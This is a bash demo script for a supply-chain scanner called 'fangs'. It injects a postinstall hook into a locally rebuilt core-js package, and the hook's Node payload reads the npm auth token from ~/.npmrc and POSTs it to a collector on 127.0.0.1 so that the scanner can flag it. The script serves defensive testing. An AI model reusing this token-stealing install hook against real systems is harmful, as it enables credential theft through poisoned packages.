#!/usr/bin/env bash
# `make demo`: fangs catching a compromised release, end to end, on this
# machine.  A real orchestrator (token auth) and a real runner on loopback;
# a real npm package with an install script (core-js) is watched:
#
#   1. its release 3.50.0 is scanned and becomes the baseline;
#   2. the next real release, 3.51.0, is scanned and comes out clean;
#   3. a "compromised" 3.51.1 built here from 3.51.0 -- its postinstall also
#      reads the npm token (the sandbox's bait) and posts it to a server on
#      127.0.0.1 inside the sandbox -- is scanned and comes out with
#      deviations, naming the install script that did it.
#
# Nothing leaves the machine but npm's own registry traffic.  Run after
# `make setup`; the runner needs root for BPF and Docker.
set -euo pipefail

REPO="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
VENV="${VENV:-$REPO/.venv}"
PY="$VENV/bin/python"
PACKAGE="${FANGS_DEMO_PACKAGE:-core-js}"
FIRST="${FANGS_DEMO_FIRST:-3.50.0}"
SECOND="${FANGS_DEMO_SECOND:-3.51.0}"
EVIL="${FANGS_DEMO_EVIL:-3.51.1}"
PORT="${FANGS_DEMO_PORT:-18443}"
IMAGE="fangs-sandbox/demo:latest"
WORK="$(mktemp -d /tmp/fangs-demo-XXXXXX)"
URL="http://127.0.0.1:$PORT"
export FANGS_ORCHESTRATOR="$URL"
export PATH="$VENV/bin:$PATH"
FANGS="$VENV/bin/fangs"
STARTED=$(date +%s)

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

ORCH_PID=""
RUNNER_PID=""
cleanup() {
    status=$?
    for pid in $RUNNER_PID $ORCH_PID; do
        if kill -0 "$pid" 2>/dev/null; then
            kill -TERM "$pid" 2>/dev/null || true
            for _ in $(seq 50); do kill -0 "$pid" 2>/dev/null || break; sleep 0.2; done
        fi
    done
    echo
    echo "logs:  $WORK/orchestrator.log"
    echo "       $WORK/runner.log"
    echo "db:    $WORK/state/fangs.db"
    exit $status
}
trap cleanup EXIT INT TERM

if [ "$(id -u)" != 0 ]; then
    echo "demo: the runner needs root (BPF, cgroups, Docker); run as root after 'make setup'" >&2
    exit 1
fi

# The shipped configuration, plus the demo's own image for step 3.
"$PY" - "$REPO/conf/orchestrator.yaml" "$WORK/orchestrator.yaml" "$IMAGE" <<'EOF'
import sys, yaml
conf = yaml.safe_load(open(sys.argv[1]))
conf.setdefault("sandbox", {}).setdefault("images", []).append(sys.argv[3])
yaml.safe_dump(conf, open(sys.argv[2], "w"))
EOF

say "starting the orchestrator on $URL (token auth; logs in $WORK)"
"$VENV/bin/twistd" -n --pidfile= --logfile="$WORK/orchestrator.log" fangs-orchestrator \
    --addr "127.0.0.1:$PORT" --db "$WORK/state/fangs.db" --config "$WORK/orchestrator.yaml" \
    --watch-interval 0 --auth token --init-admin-token &
ORCH_PID=$!
TOKEN_FILE="$WORK/state/initial-admin-token"
for _ in $(seq 150); do
    [ -s "$TOKEN_FILE" ] && curl -fsS "$URL/v1/health" >/dev/null 2>&1 && break
    kill -0 "$ORCH_PID" 2>/dev/null || { echo "orchestrator exited; see $WORK/orchestrator.log" >&2; tail -20 "$WORK/orchestrator.log" >&2; exit 1; }
    sleep 0.2
done
export FANGS_TOKEN="$(cat "$TOKEN_FILE")"

say "starting a runner (demo-runner, with a runner token)"
( umask 077; $FANGS --json token create --name demo-runner --scope runner \
    | "$PY" -c 'import json,sys; print(json.load(sys.stdin)["token"])' >"$WORK/runner-token" )
"$VENV/bin/twistd" -n --pidfile= --logfile="$WORK/runner.log" fangs-runner \
    --orchestrator "$URL" --runner-id demo-runner --token-file "$WORK/runner-token" &
RUNNER_PID=$!
for _ in $(seq 150); do
    if $FANGS --json status 2>/dev/null | grep -q '"runner_id": "demo-runner"'; then break; fi
    kill -0 "$RUNNER_PID" 2>/dev/null || { echo "runner exited; see $WORK/runner.log" >&2; tail -20 "$WORK/runner.log" >&2; exit 1; }
    sleep 0.2
done
$FANGS status

verdict() {  # run a fangs command that waits for a verdict; exit 0 clean/baseline, 4 deviations
    set +e
    "$@"
    rc=$?
    set -e
    return $rc
}

say "1/3  fangs package add $PACKAGE --version $FIRST --wait      (its first run becomes the baseline)"
verdict $FANGS package add "$PACKAGE" --version "$FIRST" --wait || { echo "(the baseline run did not finish well; see the logs)"; exit 1; }

say "2/3  fangs scan submit $PACKAGE@$SECOND --wait      (the next real release)"
rc=0; verdict $FANGS scan submit "$PACKAGE@$SECOND" --wait || rc=$?
case $rc in
    0) echo "(exit 0: $PACKAGE@$SECOND behaves like its baseline)";;
    4) echo "(exit 4: $PACKAGE@$SECOND has deviations; see fangs pending)";;
    *) echo "(exit $rc: the run did not finish well; see the logs)"; exit $rc;;
esac

say "3/3  a compromised $PACKAGE@$EVIL, built here from $SECOND"
mkdir -p "$WORK/evil/fixtures"
( cd "$WORK/evil" && npm pack "$PACKAGE@$SECOND" --silent >/dev/null && tar xzf ./*.tgz && mv package "fixtures/$PACKAGE" )
"$PY" - "$WORK/evil/fixtures/$PACKAGE" "$EVIL" <<'EOF'
import json, os, sys
root, version = sys.argv[1], sys.argv[2]
manifest = json.load(open(os.path.join(root, "package.json")))
manifest["version"] = version
scripts = manifest.setdefault("scripts", {})
before = scripts.get("postinstall")
scripts["postinstall"] = (before + " && " if before else "") + "node fangs-demo-payload.js"
json.dump(manifest, open(os.path.join(root, "package.json"), "w"), indent=2)
# What a stealer does at install time; everything stays inside the sandbox:
# the "collector" is a server this script starts on 127.0.0.1 there.
open(os.path.join(root, "fangs-demo-payload.js"), "w").write("""\
const fs = require('fs'), os = require('os'), http = require('http');
let token = '';
try { token = (fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/_authToken=(\\S+)/) || [])[1] || ''; } catch (e) {}
const collector = http.createServer((req, res) => { req.resume(); req.on('end', () => { res.end('ok'); collector.close(); }); });
collector.listen(0, '127.0.0.1', () => {
  const body = JSON.stringify({ npm: Buffer.from(token).toString('base64'), host: os.hostname() });
  const req = http.request({ host: '127.0.0.1', port: collector.address().port, method: 'POST', path: '/collect',
                             headers: { 'content-type': 'application/json' } }, (res) => res.resume());
  req.on('error', () => collector.close());
  req.end(body);
});
""")
print("postinstall is now: %s" % (scripts["postinstall"],))
EOF
echo "building the sandbox image $IMAGE with the compromised tarball at /fixtures/$PACKAGE.tgz"
"$PY" -c 'import sys; from pathlib import Path; from fangs.runner import image
image.buildFixturesImage(sys.argv[1], image.SANDBOX_IMAGE, Path(sys.argv[2]))' "$IMAGE" "$WORK/evil/fixtures"

echo "queueing the scan (POST /v1/scans: the usual install command, of the local tarball, in $IMAGE)"
RUN_ID="$("$PY" - "$URL" "$PACKAGE" "$EVIL" "$IMAGE" <<'EOF'
import json, os, sys, urllib.request
from fangs import npm, wire
from fangs.orchestrator.watcher import scanRequest
url, package, version, image = sys.argv[1:]
request = scanRequest(package, version, 120 * wire.SECOND)
body = json.loads(wire.dumps(request))
body["job"]["sandbox"]["image"] = image
body["job"]["sandbox"]["command"] = npm.installSpecCommand("/fixtures/%s.tgz" % (package.split("/")[-1],))
req = urllib.request.Request(url + "/v1/scans", data=json.dumps(body).encode(), method="POST",
                             headers={"Content-Type": "application/json", "Authorization": "Bearer " + os.environ["FANGS_TOKEN"]})
print(json.load(urllib.request.urlopen(req, timeout=30))["run_id"])
EOF
)"
echo "run $RUN_ID queued; following it on the run stream:"
$FANGS run watch --run "$RUN_ID" --since 0 --until-final
$FANGS run show "${RUN_ID:0:12}"

say "fangs pending"
$FANGS pending

TOP="$($FANGS --json deviation list --run "${RUN_ID:0:12}" --severity critical --limit 1 | "$PY" -c 'import json,sys; d=json.load(sys.stdin); print(d[0]["id"] if d else "")')"
if [ -n "$TOP" ]; then
    say "fangs deviation show ${TOP:0:12}      (the top deviation, its evidence and the actor that did it)"
    $FANGS deviation show "${TOP:0:12}"
fi

say "the dashboard: $URL/ui/   (sign in with the admin token: $(cat "$TOKEN_FILE"))"
echo "demo took $(( $(date +%s) - STARTED ))s"
